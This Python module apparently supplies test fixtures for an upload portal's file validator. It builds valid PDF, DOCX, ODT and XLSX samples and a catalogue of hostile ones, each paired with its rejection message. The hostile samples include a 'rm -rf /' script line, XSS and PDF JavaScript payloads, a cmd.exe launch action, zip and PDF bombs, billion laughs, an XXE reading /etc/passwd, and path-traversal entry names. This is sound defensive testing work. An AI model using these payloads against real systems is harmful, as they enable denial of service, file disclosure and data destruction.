"""Files made by hand: a good one of each kind, and a folder of bad ones with the sentence that each gets."""

import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

OOXML = "application/vnd.openxmlformats-officedocument."
WORD = f"{OOXML}wordprocessingml.document.main+xml"
SHEET = f"{OOXML}spreadsheetml.sheet.main+xml"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
# The test file of all virus scanners, in halves, so that none takes this source for it.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


# -- PDF


def pdf(change: Callable[[pikepdf.Pdf], object] = lambda made: None, **how: Any) -> bytes:
    made = pikepdf.new()
    made.add_blank_page()
    change(made)
    out = BytesIO()
    made.save(out, deterministic_id="encryption" not in how, **how)
    return out.getvalue()


def with_action(**action: Any) -> bytes:
    return pdf(lambda made: setattr(made.Root, "OpenAction", Dictionary(**action)))


def with_content(data: bytes, filters: Any) -> bytes:
    """A page whose content is these bytes, packed already."""

    def change(made: pikepdf.Pdf) -> None:
        stream = made.make_stream(b"")
        stream.write(data, filter=filters)
        made.pages[0].Contents = stream

    return pdf(change, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def with_attached(name: str, data: bytes) -> bytes:
    return pdf(lambda made: made.attachments.__setitem__(name, data))


def zeros(megabytes: int) -> bytes:
    """That many megabytes of nothing, packed."""
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(1024 * 1024)) for _ in range(megabytes)) + packer.flush()


# -- packages


def package(parts: dict[str, bytes | str], *, stored: tuple[str, ...] = ("mimetype",)) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in parts.items():
            how = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            made.writestr(zipfile.ZipInfo(name, (2014, 12, 15, 9, 0, 0)), data, how)
    return out.getvalue()


def content_types(main: str, part: str, more: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{part}" ContentType="{main}"/>{more}</Types>'
    )


def relationships(*rows: tuple[str, str, str]) -> str:
    inside = "".join(
        f'<Relationship Id="r{number}" Type="{RELATIONSHIPS}/{what}" Target="{target}"'
        f"{' TargetMode=' + chr(34) + mode + chr(34) if mode else ''}/>"
        for number, (what, target, mode) in enumerate(rows)
    )
    return (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inside}</Relationships>'
    )


def word_parts(**more: bytes | str) -> dict[str, bytes | str]:
    return {
        "[Content_Types].xml": content_types(WORD, "word/document.xml"),
        "_rels/.rels": relationships(("officeDocument", "word/document.xml", "")),
        "word/document.xml": '<w:document xmlns:w="w"><w:body><w:p><w:t>Ääni</w:t></w:p></w:body></w:document>',
        **more,
    }


def sheet_parts(**more: bytes | str) -> dict[str, bytes | str]:
    return {
        "[Content_Types].xml": content_types(SHEET, "xl/workbook.xml"),
        "_rels/.rels": relationships(("officeDocument", "xl/workbook.xml", "")),
        "xl/workbook.xml": "<workbook><sheets/></workbook>",
        "xl/worksheets/sheet1.xml": "<worksheet><sheetData/></worksheet>",
        **more,
    }


def text_parts(**more: bytes | str) -> dict[str, bytes | str]:
    return {
        "mimetype": "application/vnd.oasis.opendocument.text",
        "content.xml": '<office:document-content xmlns:office="o"><office:body/></office:document-content>',
        "META-INF/manifest.xml": '<manifest:manifest xmlns:manifest="m"/>',
        **more,
    }


def docx(parts: dict[str, bytes | str] | None = None) -> bytes:
    return package(word_parts(**(parts or {})))


def xlsx(parts: dict[str, bytes | str] | None = None) -> bytes:
    return package(sheet_parts(**(parts or {})))


def odt(parts: dict[str, bytes | str] | None = None) -> bytes:
    return package(text_parts(**(parts or {})))


def linked(what: str, target: str) -> bytes:
    return docx({"word/_rels/document.xml.rels": relationships((what, target, "External"))})


def typed(type_: str) -> bytes:
    """A DOCX with one part more, of that content type."""
    more = f'<Override PartName="/word/more.xml" ContentType="{type_}"/>'
    return docx({"[Content_Types].xml": content_types(WORD, "word/document.xml", more), "word/more.xml": "<more/>"})


def renamed(before: str, after: str) -> bytes:
    """A DOCX with a part whose name no honest program writes, as long as the one it replaces."""
    assert len(before) == len(after)
    return docx({before: "<x/>"}).replace(before.encode(), after.encode())


def encrypted_part() -> bytes:
    """The bit that says that a part is encrypted, set in both places."""
    data = bytearray(docx())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.find(mark) + offset] |= 1
    return bytes(data)


def lying_about_its_size() -> bytes:
    """A part that says it is small and unpacks to more: its true size is written over in the directory."""
    data = docx({"word/media/image1.bmp": bytes(3_000_000)})
    true, said = struct.pack("<L", 3_000_000), struct.pack("<L", 1_000)
    return data.replace(true, said)


def said_to_be_huge() -> bytes:
    """The end of the package says what only the larger kind of ZIP may say."""
    data = bytearray(docx())
    end = data.rfind(b"PK\x05\x06")
    data[end + 16 : end + 20] = b"\xff" * 4
    return bytes(data)


def two_over_each_other() -> bytes:
    """Two entries of the directory point at the same bytes."""
    data = bytearray(docx({"word/a.xml": "<a/>", "word/b.xml": "<a/>"}))
    first, second = (data.find(name, data.find(b"PK\x01\x02")) - 46 for name in (b"word/a.xml", b"word/b.xml"))
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    return bytes(data)


def doubled() -> bytes:
    """A part's name twice: one program reads the first, another the second."""
    return docx({"word/a.xml": "<a/>", "word/b.xml": "<b/>"}).replace(b"word/b.xml", b"word/a.xml")


def laughing() -> str:
    """A billion laughs: ten entities, each ten times the one before."""
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE x [<!ENTITY l0 "lol">{entities}]><x>&l9;</x>'


def nested(depth: int) -> bytes:
    """A table behind a chart of a table behind a chart …"""
    made = xlsx()
    for _ in range(depth):
        made = xlsx({"xl/embeddings/Microsoft_Excel_Worksheet.xlsx": made})
    return made


def old(stream: str) -> bytes:
    return OLE + stream.encode("utf-16-le") + bytes(512)


GOOD: dict[str, Callable[[], bytes]] = {"pdf": pdf, "docx": docx, "odt": odt, "xlsx": xlsx}


# -- the folder

DAMAGED = "The file is damaged or cut short. Open it in its own program, save it again and choose the new one."
STRANGE = (
    "The file is not put together as office programs do it. Open it in its own program, save it again "
    "and choose the new one."
)
TOO_LARGE_INSIDE = "The file unpacks to more than the portal can check. Make it smaller, or save it as PDF."
PDF_TOO_LARGE_INSIDE = (
    "The PDF is too large inside to be checked. Print it to a new PDF, or divide it into smaller ones."
)
PROTECTED = "The file is protected with a password. Save it without a password and choose it again."
PDF_PROTECTED = "The PDF is protected with a password or a permission. Save it without protection and choose it again."
ACTIVE = "The PDF contains a script, a form that runs one or a recording. Print it to a new PDF and choose that."
LAUNCHES = "The PDF starts a program or sends data when it is used. Print it to a new PDF and choose that."
CARRIES_FILES = "The PDF has other files attached inside it. Remove them, and add each of them here on its own."
TWO_AT_ONCE = "The file is a PDF and a ZIP package at the same time. Save it again as one of them."
MACROS = "The file contains macros. Save it without macros as DOCX or XLSX, or as PDF, and choose that."
EMBEDS = "Another file or object is embedded in the file. Remove it, or save the whole as PDF."
LINKS = (
    "The file fetches a template, a picture or figures from elsewhere when it is opened. Break the links, "
    "or save it as PDF."
)
DEFINITIONS = "The file's XML has definitions (DTD) that office programs do not write. Save it again, or as PDF."
PICTURE = "The file is a picture or a recording. Put a picture into a document and save that as PDF."
WEB_PAGE = "The file is a web page or XML. Print it to PDF and choose that."
PROGRAM = "The file is a program. The portal does not take programs."
TEXT = "The file is plain text. Save it as DOCX, ODT or PDF and choose that."
ZIP = "The file is a ZIP archive. Choose the files in it one by one."
ARCHIVE = "The file is a packed archive. Choose the files in it one by one."
PRESENTATION = "The file is a presentation. Save it as PDF and choose that."
TEMPLATE = "The file is a template. Save it as DOCX, XLSX or PDF and choose that."
UNKNOWN = "The portal does not take files of this kind. Choose a PDF, DOCX, ODT or XLSX file."


@dataclass(frozen=True)
class Bad:
    """A file, and the sentence that stands beside the field where it was chosen."""

    name: str
    make: Callable[[], bytes]
    sentence: str


BAD = {
    # Nothing, too much, and what only its name makes a document
    "empty": Bad("a.pdf", bytes, "The file is empty. Choose another one."),
    "too large": Bad("a.pdf", lambda: b"%PDF-" + bytes(20_000_000), "The file is 20.1 MB. It may be at most 20.0 MB."),
    "picture called pdf": Bad("a.pdf", lambda: b"\x89PNG\r\n\x1a\n" + bytes(99), PICTURE),
    "photograph": Bad("a.jpg", lambda: b"\xff\xd8\xff\xe0" + bytes(99), PICTURE),
    "photograph of a telephone": Bad("a.heic", lambda: b"\0\0\0\x18ftypheic" + bytes(99), PICTURE),
    "web page called docx": Bad("a.docx", lambda: b"\xef\xbb\xbf\n<!DOCTYPE html><script>alert(1)</script>", WEB_PAGE),
    "drawing with a script": Bad("a.svg", lambda: b'<svg onload="alert(1)"/>', WEB_PAGE),
    "windows program": Bad("a.pdf", lambda: b"MZ" + bytes(99), PROGRAM),
    "linux program": Bad("a", lambda: b"\x7fELF" + bytes(99), PROGRAM),
    "script": Bad("a.pdf", lambda: b"#!/bin/sh\nrm -rf /\n", PROGRAM),
    "plain text": Bad("a.docx", lambda: "Hyvä ELO-väki,\n".encode(), TEXT),
    "virus test file": Bad("a.pdf", lambda: EICAR, TEXT),
    "rich text": Bad("a.docx", lambda: b"{\\rtf1 x}", "The file is RTF. Save it as DOCX, ODT or PDF and choose that."),
    "noise": Bad("a.pdf", lambda: bytes(range(255, -1, -1)), UNKNOWN),
    # Names
    "no ending": Bad(
        "suunnitelma", pdf, "The file's name has no ending. Its content is PDF: add .pdf to the end of the name."
    ),
    "only an ending": Bad(
        ".docx", docx, "The file's name has no ending. Its content is DOCX: add .docx to the end of the name."
    ),
    "another ending": Bad(
        "a.docx", pdf, "The file's name ends in .docx, but its content is PDF. Change the ending to .pdf."
    ),
    "ending of a program": Bad(
        "a.pdf.exe", xlsx, "The file's name ends in .exe, but its content is XLSX. Change the ending to .xlsx."
    ),
    "name that reads backwards": Bad(
        "lasku\u202efdp.exe", odt, "The file's name ends in .exe, but its content is ODT. Change the ending to .odt."
    ),
    # Old and other office files
    "old word": Bad(
        "a.doc",
        lambda: old("WordDocument"),
        "The file is an old Word document (DOC). Save it as DOCX or PDF and choose that.",
    ),
    "old word called docx": Bad(
        "a.docx",
        lambda: old("WordDocument"),
        "The file is an old Word document (DOC). Save it as DOCX or PDF and choose that.",
    ),
    "old excel": Bad(
        "a.xls",
        lambda: old("Workbook"),
        "The file is an old Excel workbook (XLS). Save it as XLSX or PDF and choose that.",
    ),
    "old presentation": Bad("a.ppt", lambda: old("PowerPoint Document"), PRESENTATION),
    "other old office file": Bad(
        "a.msg", lambda: OLE, "The file is of an old office program. Save it as DOCX, XLSX or PDF and choose that."
    ),
    "docx with a password": Bad("a.docx", lambda: old("EncryptedPackage"), PROTECTED),
    "presentation": Bad(
        "a.pptx",
        lambda: package(
            {"[Content_Types].xml": content_types(f"{OOXML}presentationml.presentation.main+xml", "p.xml")}
        ),
        PRESENTATION,
    ),
    "template": Bad(
        "a.dotx",
        lambda: docx(
            {"[Content_Types].xml": content_types(f"{OOXML}wordprocessingml.template.main+xml", "word/document.xml")}
        ),
        TEMPLATE,
    ),
    "ods": Bad(
        "a.ods",
        lambda: odt({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}),
        "The file is an ODS table. Save it as XLSX or PDF and choose that.",
    ),
    "odp": Bad("a.odp", lambda: odt({"mimetype": "application/vnd.oasis.opendocument.presentation"}), PRESENTATION),
    "electronic book": Bad("a.epub", lambda: odt({"mimetype": "application/epub+zip"}), UNKNOWN),
    "zip": Bad("a.zip", lambda: package({"a.pdf": pdf()}), ZIP),
    "seven zip": Bad("a.docx", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(99), ARCHIVE),
    "empty zip": Bad("a.docx", lambda: package({}), ARCHIVE),
    # PDF
    "pdf cut short": Bad("a.pdf", lambda: pdf()[:400], DAMAGED),
    "pdf without an index": Bad("a.pdf", lambda: b"%PDF-1.7\nhello\n%%EOF", DAMAGED),
    "pdf without pages": Bad("a.pdf", lambda: pdf(lambda made: made.pages.__delitem__(0)), DAMAGED),
    "pdf with a password": Bad("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u")), PDF_PROTECTED),
    "pdf with a permission": Bad(
        "a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="")), PDF_PROTECTED
    ),
    "pdf with a script": Bad("a.pdf", lambda: with_action(S=Name.JavaScript, JS=String("app.alert(1)")), ACTIVE),
    "pdf with a disguised script": Bad(
        "a.pdf",
        lambda: with_action(S=Name("/JavaScriptXX"), X=String("app.alert(1)")).replace(
            b"/JavaScriptXX", b"/J#61vaScript"
        ),
        ACTIVE,
    ),
    "pdf with a script in a button": Bad(
        "a.pdf",
        lambda: pdf(
            lambda made: made.pages[0].__setitem__(
                "/Annots", Array([Dictionary(Subtype=Name.Link, AA=Dictionary(E=Dictionary(S=Name.JavaScript)))])
            ),
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
        ),
        ACTIVE,
    ),
    "pdf form that runs scripts": Bad(
        "a.pdf", lambda: pdf(lambda made: setattr(made.Root, "AcroForm", Dictionary(XFA=String("x")))), ACTIVE
    ),
    "pdf that starts a program": Bad("a.pdf", lambda: with_action(S=Name.Launch, F=String("cmd.exe")), LAUNCHES),
    "pdf that sends data": Bad(
        "a.pdf", lambda: with_action(S=Name.SubmitForm, F=String("https://x.example")), LAUNCHES
    ),
    "pdf with a program inside": Bad("a.pdf", lambda: with_attached("a.exe", b"MZ"), CARRIES_FILES),
    "pdf with a program called data": Bad("a.pdf", lambda: with_attached("a.xml", b"MZ\0\0"), CARRIES_FILES),
    "pdf bomb": Bad("a.pdf", lambda: with_content(zeros(150), Name.FlateDecode), PDF_TOO_LARGE_INSIDE),
    "pdf bomb in a bomb": Bad(
        "a.pdf",
        lambda: with_content(zlib.compress(zeros(150), 9), Array([Name.FlateDecode, Name.FlateDecode])),
        PDF_TOO_LARGE_INSIDE,
    ),
    "pdf and zip": Bad("a.pdf", lambda: pdf() + docx(), TWO_AT_ONCE),
    "zip and pdf": Bad("a.docx", lambda: package({"mimetype": b"%PDF-1.7 %%EOF"}), TWO_AT_ONCE),
    # Office packages
    "docx cut short": Bad("a.docx", lambda: docx()[:-200], DAMAGED),
    "docx with broken parts": Bad("a.docx", lambda: docx().replace(b"PK\x01\x02", b"PK\x01\x03", 1), DAMAGED),
    "docx with something before it": Bad("a.docx", lambda: docx()[:4] + docx(), STRANGE),
    "docx with something after it": Bad("a.docx", lambda: docx() + b"more", STRANGE),
    "docx with encrypted parts": Bad("a.docx", encrypted_part, PROTECTED),
    "bomb": Bad("a.xlsx", lambda: xlsx({"xl/worksheets/sheet1.xml": bytes(90_000_000)}), TOO_LARGE_INSIDE),
    "bomb of many": Bad("a.xlsx", lambda: xlsx({f"xl/{n}.xml": b"<x/>" for n in range(2_000)}), TOO_LARGE_INSIDE),
    "bomb that lies": Bad("a.docx", lying_about_its_size, DAMAGED),
    "zip64 that lies": Bad("a.docx", said_to_be_huge, STRANGE),
    "parts over each other": Bad("a.docx", two_over_each_other, STRANGE),
    "part twice": Bad("a.docx", doubled, STRANGE),
    "part that climbs out": Bad("a.docx", lambda: renamed("word/xx/yy/evil.xml", "../../../x/evil.xml"), STRANGE),
    "part at the root": Bad("a.docx", lambda: renamed("Xetc/passwd.xml", "/etc/passwd.xml"), STRANGE),
    "part with a backslash": Bad("a.docx", lambda: renamed("word/evil.xml", "word\\evil.xml"), STRANGE),
    "docx without a document": Bad(
        "a.docx", lambda: package({"[Content_Types].xml": content_types(WORD, "x.xml")}), STRANGE
    ),
    "docx that is xlsx too": Bad(
        "a.docx",
        lambda: docx(
            {
                "[Content_Types].xml": content_types(
                    WORD, "word/document.xml", f'<Override PartName="/_rels/.rels" ContentType="{SHEET}"/>'
                )
            }
        ),
        STRANGE,
    ),
    "macros": Bad("a.docm", lambda: typed("application/vnd.ms-word.document.macroEnabled.main+xml"), MACROS),
    "macros called docx": Bad("a.docx", lambda: typed("application/vnd.ms-office.vbaProject"), MACROS),
    "old macros in xlsx": Bad("a.xlsx", lambda: typed("application/vnd.ms-excel.macrosheet+xml"), MACROS),
    "macros in odt": Bad("a.odt", lambda: odt({"Basic/Standard/Module1.xml": "<x/>"}), MACROS),
    "events in odt": Bad("a.odt", lambda: odt({"content.xml": "<x><script:event-listener/></x>"}), MACROS),
    "controls": Bad("a.docx", lambda: typed("application/vnd.ms-office.activeX+xml"), EMBEDS),
    "object": Bad("a.docx", lambda: docx({"word/embeddings/oleObject1.bin": OLE}), EMBEDS),
    "object in odt": Bad("a.odt", lambda: odt({"Object 1": OLE}), EMBEDS),
    "program inside": Bad("a.docx", lambda: docx({"word/media/image1.png": b"MZ" + bytes(99)}), EMBEDS),
    "packages in packages": Bad("a.xlsx", lambda: nested(2), EMBEDS),
    "document with macros inside": Bad(
        "a.docx",
        lambda: docx({"word/embeddings/a.xlsx": typed("application/vnd.ms-office.vbaProject")}),
        EMBEDS,
    ),
    "bomb inside": Bad(
        "a.docx",
        lambda: docx({"word/embeddings/a.xlsx": xlsx({"xl/worksheets/sheet1.xml": bytes(90_000_000)})}),
        TOO_LARGE_INSIDE,
    ),
    "template from the net": Bad("a.docx", lambda: linked("attachedTemplate", "https://x.example/a.dotm"), LINKS),
    "template from a server": Bad("a.docx", lambda: linked("attachedTemplate", "file:///\\\\x.example\\a.dotm"), LINKS),
    "picture from the net": Bad("a.docx", lambda: linked("image", "https://x.example/a.png"), LINKS),
    "object from the net": Bad("a.docx", lambda: linked("oleObject", "mhtml:https://x.example!x"), LINKS),
    "figures from another workbook": Bad("a.xlsx", lambda: typed(f"{OOXML}spreadsheetml.externalLink+xml"), LINKS),
    "odt picture from the net": Bad(
        "a.odt", lambda: odt({"content.xml": '<x><draw:image xlink:href="https://x.example/a.png"/></x>'}), LINKS
    ),
    "odt with a password": Bad(
        "a.odt", lambda: odt({"META-INF/manifest.xml": "<m:manifest><m:encryption-data/></m:manifest>"}), PROTECTED
    ),
    "odt whose type is packed": Bad("a.odt", lambda: package(text_parts(), stored=()), STRANGE),
    "odt without content": Bad(
        "a.odt", lambda: package({"mimetype": "application/vnd.oasis.opendocument.text"}), STRANGE
    ),
    "billion laughs": Bad("a.docx", lambda: docx({"word/document.xml": laughing()}), DEFINITIONS),
    "definitions in the list of types": Bad("a.docx", lambda: docx({"[Content_Types].xml": laughing()}), DEFINITIONS),
    "file of the server's": Bad(
        "a.odt",
        lambda: odt({"content.xml": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'}),
        DEFINITIONS,
    ),
    "xml cut short": Bad("a.docx", lambda: docx({"word/document.xml": "<w:document"}), DAMAGED),
}
